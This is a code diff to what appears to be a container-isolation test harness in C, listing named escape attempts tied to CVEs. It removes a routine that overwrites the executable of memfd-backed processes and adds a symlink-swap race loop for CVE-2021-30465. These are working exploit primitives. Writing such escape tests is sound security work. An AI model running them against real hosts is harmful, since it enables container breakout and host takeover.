@@ -127,31 +127,6 @@ static int overwrite(int count, char **arguments)
 	return overwrite_open(program);
 }
 
-/* overwrite-passing SECONDS: of every process that comes along with a program of no file; how many came is told. */
-static int overwrite_passing(int count, char **arguments)
-{
-	char path[64], link[256];
-	int error = ENOENT;
-	time_t end = time(NULL) + atoi(argument(count, arguments, 0, "5"));
-	dprintf(1, "ready\n");
-	while (time(NULL) < end)
-		for (int pid = 2; pid < 400; pid++) {
-			snprintf(path, sizeof path, "/proc/%d/exe", pid);
-			ssize_t length = readlink(path, link, sizeof link - 1);
-			if (length < 7 || strncmp(link, "/memfd:", 7))
-				continue;
-			int program = open(path, O_PATH | O_CLOEXEC);
-			if (program < 0)
-				continue;
-			progress++;
-			error = overwrite_open(program);
-			if (error == 0)
-				return 0;
-			close(program);
-		}
-	return error;
-}
-
 /* leaks (CVE-2024-21626): a descriptor beyond the three, or a working directory, from which the host can be seen. */
 static int leaks(int count, char **arguments)
 {
@@ -196,9 +171,25 @@ static int chroot_escape(int count, char **arguments)
 	return read_file(1, rest);
 }
 
+/* swap PATH TARGET SECONDS: exchanges a directory and a symlink beside it, again and again (CVE-2021-30465). */
+static int swap(int count, char **arguments)
+{
+	char beside[4096];
+	const char *path = argument(count, arguments, 0, "");
+	time_t end = time(NULL) + atoi(argument(count, arguments, 2, "5"));
+	snprintf(beside, sizeof beside, "%s-", path);
+	if (symlink(argument(count, arguments, 1, "/"), beside) != 0)
+		return errno;
+	dprintf(1, "ready\n");
+	while (time(NULL) < end)
+		if (syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, beside, 2L) != 0) /* RENAME_EXCHANGE */
+			return errno;
+	return refusal(unlink(beside));
+}
+
 const struct named FILE_ATTEMPTS[] = {
 	{"read", read_file}, {"list", list_directory}, {"write-back", write_back}, {"sysrq", sysrq}, {"mount", mount_one},
 	{"umount", unmount}, {"fsopen", open_file_system}, {"open_tree", open_tree}, {"mknod", make_node},
-	{"release-agent", release_agent}, {"overwrite", overwrite}, {"overwrite-passing", overwrite_passing},
-	{"leaks", leaks}, {"by-handle", by_handle}, {"chroot-escape", chroot_escape}, {NULL, NULL},
+	{"release-agent", release_agent}, {"overwrite", overwrite},
+	{"leaks", leaks}, {"swap", swap}, {"by-handle", by_handle}, {"chroot-escape", chroot_escape}, {NULL, NULL},
 };
